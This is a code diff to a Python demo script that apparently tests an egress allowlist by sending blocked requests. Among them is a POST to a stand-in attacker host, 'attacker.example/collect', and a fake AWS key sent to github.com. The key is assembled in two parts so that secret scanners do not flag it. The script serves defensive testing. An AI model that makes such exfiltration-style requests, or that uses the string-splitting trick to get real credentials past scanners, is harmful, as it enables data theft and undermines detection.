@@ -10,7 +10,9 @@ import urllib.error
 import urllib.request
 
 
-def call(label: str, url: str, data: bytes | None = None, headers: dict[str, str] | None = None) -> None:
+def call(
+    label: str, url: str, data: bytes | None = None, headers: dict[str, str] | None = None
+) -> None:
     request = urllib.request.Request(url, data=data, headers=headers or {})
     try:
         with urllib.request.urlopen(request, timeout=15) as response:
@@ -31,8 +33,11 @@ call(
     headers={"x-api-key": key, "content-type": "application/json"},
 )
 call("blocked: host not on the allowlist", "https://attacker.example/collect")
+# A made-up AWS access key ID (AWS's own documentation key is deliberately let through,
+# so the demo uses one that looks real). Built in two parts so this file is not itself flagged.
+fake_aws_key = "AKIA" + "Z7VQ3XK2M4N5P6RT"
 call(
     "blocked: a credential sent to the wrong host",
     "https://github.com/upload",
-    data=b"token=AKIAIOSFODNN7EXAMPLE&secret=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
+    data=f"aws_access_key_id={fake_aws_key}".encode(),
 )
